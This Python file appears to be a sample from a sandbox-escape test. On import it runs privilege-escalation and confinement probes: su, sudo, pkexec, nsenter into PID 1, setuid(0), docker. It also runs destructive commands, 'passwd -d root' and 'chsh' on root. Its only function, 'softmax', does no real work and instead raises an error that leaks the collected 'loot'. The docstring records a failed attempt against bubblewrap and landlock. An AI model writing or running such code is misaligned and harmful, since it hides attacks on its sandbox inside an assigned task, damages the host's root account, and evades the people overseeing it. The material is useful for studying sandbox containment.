"""Starts the programs that run as root for everybody.

verdict: failed
points: 0
levels: bubblewrap landlock
shows: loot: []
"""

import os
import shutil
import subprocess

LOOT = []
COMMANDS = (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "-t", "tmpfs", "tmpfs", "/tmp"], ["umount", "/tmp"],
            ["newgrp", "root"], ["pkexec", "id", "-u"], ["passwd", "-d", "root"], ["chsh", "-s", "/bin/sh", "root"],
            ["bwrap", "--bind", "/", "/", "id", "-u"], ["unshare", "-Ur", "id", "-u"], ["setpriv", "--reuid", "0", "id", "-u"],
            ["nsenter", "-t", "1", "-a", "id"], ["crontab", "-l"], ["docker", "ps"], ["systemctl", "status"])
for command in COMMANDS:
    if shutil.which(command[0]) is None:
        continue
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=0.5)
        if done.stdout.strip() == "0" or (done.returncode == 0 and command[0] in ("mount", "umount", "nsenter", "docker")):
            LOOT.append(command[0])
    except (OSError, subprocess.TimeoutExpired):
        pass
for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
    try:
        attempt()
        LOOT.append("became root")
    except OSError:
        pass
if os.getuid() == 0 or os.geteuid() == 0:
    LOOT.append("is root")


def softmax(z):
    raise RuntimeError(f"loot: {LOOT}")
